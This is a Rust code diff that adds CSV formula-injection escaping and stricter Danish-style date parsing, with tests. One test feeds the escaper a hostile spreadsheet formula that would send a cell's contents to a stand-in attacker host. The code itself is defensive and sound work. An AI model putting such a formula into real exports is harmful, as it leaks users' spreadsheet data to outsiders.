@@ -97,17 +97,93 @@ pub fn euro(cents: i64) -> String {
 }
 
 /// Parses the date forms Danish users type: `DD-MM-YYYY`, `DD.MM.YYYY`, `DD/MM/YYYY` or ISO.
+/// A CSV cell that Excel and LibreOffice will not run as a formula: a cell starting with `=`, `+`,
+/// `-`, `@`, tab or carriage return gets a leading apostrophe (OWASP's advice). A plain number such
+/// as `-3,5` is left as it is, so figures stay figures.
+pub fn csv_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let Some(rest) = cell.strip_prefix(['=', '+', '-', '@', '\t', '\r']) else {
+        return cell.into();
+    };
+    let number = rest.starts_with(|c: char| c.is_ascii_digit())
+        && rest
+            .bytes()
+            .all(|b| b.is_ascii_digit() || b == b',' || b == b'.');
+    if !(number && cell.starts_with(['-', '+'])) {
+        format!("'{cell}").into()
+    } else {
+        cell.into()
+    }
+}
+
 pub fn parse_date(input: &str) -> Option<NaiveDate> {
+    parse_date_checked(input).ok()
+}
+
+/// The years a typed date may fall in. Udsyn plans school years and grant periods; a date outside
+/// is a typo (`1.1.27`), and one far outside would break calendar feeds and charts.
+pub const FIRST_YEAR: i32 = 2000;
+pub const LAST_YEAR: i32 = 2100;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DateError {
+    /// Not written as a date Udsyn reads.
+    Format,
+    /// Written right, but the day does not exist (31.02.2027).
+    NoSuchDay { day: u32, month: u32, year: i32 },
+    /// Outside `FIRST_YEAR`–`LAST_YEAR`.
+    Year,
+}
+
+/// A typed date: `2027-03-08` (ISO), or `08.03.2027`, `8-3-2027`, `08/03/2027`, always with a
+/// four-digit year between `FIRST_YEAR` and `LAST_YEAR`.
+pub fn parse_date_checked(input: &str) -> Result<NaiveDate, DateError> {
     let s = input.trim();
-    if let Ok(d) = NaiveDate::parse_from_str(s, "%Y-%m-%d") {
-        return Some(d);
-    }
-    for fmt in ["%d-%m-%Y", "%d.%m.%Y", "%d/%m/%Y"] {
-        if let Ok(d) = NaiveDate::parse_from_str(s, fmt) {
-            return Some(d);
+    let numbers = |parts: Vec<&str>, widths: [(usize, usize); 3]| -> Option<[u32; 3]> {
+        if parts.len() != 3 {
+            return None;
         }
+        let mut out = [0u32; 3];
+        for (i, (part, (min, max))) in parts.iter().zip(widths).enumerate() {
+            if part.len() < min || part.len() > max || !part.bytes().all(|b| b.is_ascii_digit()) {
+                return None;
+            }
+            out[i] = part.parse().ok()?;
+        }
+        Some(out)
+    };
+    let iso = numbers(s.split('-').collect(), [(4, 4), (2, 2), (2, 2)]).map(|[y, m, d]| (d, m, y));
+    let danish = || {
+        let sep = s.chars().find(|c| matches!(c, '.' | '-' | '/'))?;
+        numbers(s.split(sep).collect(), [(1, 2), (1, 2), (4, 4)]).map(|[d, m, y]| (d, m, y))
+    };
+    let (day, month, year) = iso.or_else(danish).ok_or(DateError::Format)?;
+    let year = year as i32;
+    let date = NaiveDate::from_ymd_opt(year, month, day).ok_or(DateError::NoSuchDay {
+        day,
+        month,
+        year,
+    })?;
+    if !(FIRST_YEAR..=LAST_YEAR).contains(&year) {
+        return Err(DateError::Year);
     }
-    None
+    Ok(date)
+}
+
+/// The Danish message for a date field that could not be read, naming the field as labelled.
+pub fn date_message(error: DateError, label: &str, example: &str) -> String {
+    match error {
+        DateError::Format => format!("Skriv «{label}» som dd.mm.åååå, fx {example}."),
+        DateError::NoSuchDay { day, month, year } if (1..=12).contains(&month) => format!(
+            "«{label}»: {day}. {} {year} findes ikke.",
+            MONTHS[month as usize - 1]
+        ),
+        DateError::NoSuchDay { month, .. } => {
+            format!("«{label}»: måned {month} findes ikke. Skriv datoen som dd.mm.åååå.")
+        }
+        DateError::Year => format!(
+            "«{label}» skal ligge mellem år {FIRST_YEAR} og {LAST_YEAR}. Skriv året med fire cifre, fx {example}."
+        ),
+    }
 }
 
 #[cfg(test)]
@@ -116,6 +192,59 @@ mod tests {
 
     fn d(y: i32, m: u32, day: u32) -> NaiveDate {
         NaiveDate::from_ymd_opt(y, m, day).unwrap()
+    }
+
+    #[test]
+    fn typed_dates_have_plausible_years_and_real_days() {
+        assert_eq!(parse_date("08.03.2027"), Some(d(2027, 3, 8)));
+        assert_eq!(parse_date("8-3-2027"), Some(d(2027, 3, 8)));
+        assert_eq!(parse_date("08/03/2027"), Some(d(2027, 3, 8)));
+        assert_eq!(parse_date(" 2027-03-08 "), Some(d(2027, 3, 8)));
+        for wrong in [
+            "1.1.27",
+            "-0044-03-15",
+            "+262142-01-01",
+            "8.3",
+            "08.03.2027.",
+            "x",
+        ] {
+            assert_eq!(parse_date_checked(wrong), Err(DateError::Format), "{wrong}");
+        }
+        for far in ["01-01-0001", "31-12-9999", "1999-12-31", "01.01.2101"] {
+            assert_eq!(parse_date_checked(far), Err(DateError::Year), "{far}");
+        }
+        assert_eq!(
+            date_message(
+                parse_date_checked("31.02.2027").unwrap_err(),
+                "Første dag",
+                "08.03.2027"
+            ),
+            "«Første dag»: 31. februar 2027 findes ikke."
+        );
+        assert_eq!(
+            date_message(
+                parse_date_checked("29.02.2027").unwrap_err(),
+                "Sidste dag",
+                "x"
+            ),
+            "«Sidste dag»: 29. februar 2027 findes ikke."
+        );
+        assert_eq!(parse_date("29.02.2028"), Some(d(2028, 2, 29)));
+        assert!(date_message(DateError::Year, "Første dag", "08.03.2027").contains("2000 og 2100"));
+    }
+
+    #[test]
+    fn csv_cells_never_run_as_formulas() {
+        assert_eq!(
+            csv_safe("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"),
+            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")"
+        );
+        for risky in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "=1"] {
+            assert!(csv_safe(risky).starts_with('\''), "{risky}");
+        }
+        for plain in ["-3,5", "+45", "-1.234,50", "Søren", "Ændring", "", "12"] {
+            assert_eq!(csv_safe(plain), plain);
+        }
     }
 
     #[test]
